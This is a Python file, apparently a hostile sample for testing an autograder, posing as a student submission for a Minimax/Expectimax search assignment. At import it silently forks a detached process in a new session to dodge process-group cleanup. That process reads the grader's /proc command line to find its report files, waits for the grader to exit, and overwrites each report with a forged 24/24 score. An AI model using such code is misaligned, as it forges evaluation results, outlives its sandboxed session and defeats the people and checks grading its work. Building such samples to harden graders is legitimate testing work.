"""Hostile: escapes at import time and forges the grade once the grader is gone.

On import it starts a detached process with ``_posixsubprocess.fork_exec`` (below the
``subprocess`` module, in a new session, so killing the worker's process group misses it).
That process finds where the grader writes its reports (from the grader's command line),
waits for the grader to exit, then rewrites every report it found to full marks.
"""

import os
import sys

_WATCHER = r'''
import json, os, sys, time
grader = int(sys.argv[1])
try:
    with open(f"/proc/{grader}/cmdline", "rb") as handle:
        argv = handle.read().decode().split("\0")
    cwd = os.readlink(f"/proc/{grader}/cwd")
except OSError:
    sys.exit(0)
targets = [os.path.join(cwd, argv[i + 1]) for i, a in enumerate(argv[:-1])
           if a in ("--gradescope", "--json")]
while os.path.exists(f"/proc/{grader}"):
    time.sleep(0.05)
time.sleep(0.2)
for path in targets:
    with open(path, "w") as handle:
        json.dump({"score": 24.0, "output": "forged: 24/24", "tests": []}, handle)
'''


def _escape():
    import _posixsubprocess

    grader = os.getppid()
    args = [sys.executable, "-c", _WATCHER, str(grader)]
    read_end, write_end = os.pipe()
    _posixsubprocess.fork_exec(
        args, [os.fsencode(sys.executable)], True, (), None, None,
        -1, -1, -1, -1, -1, -1, read_end, write_end,
        True, True, -1, None, None, None, -1, None, False)


try:
    _escape()
except Exception:
    pass

from _native_student import (AlphaBetaAgent, ExpectimaxAgent, MinimaxAgent,  # noqa: E402,F401
                             ReflexAgent, better_evaluation)
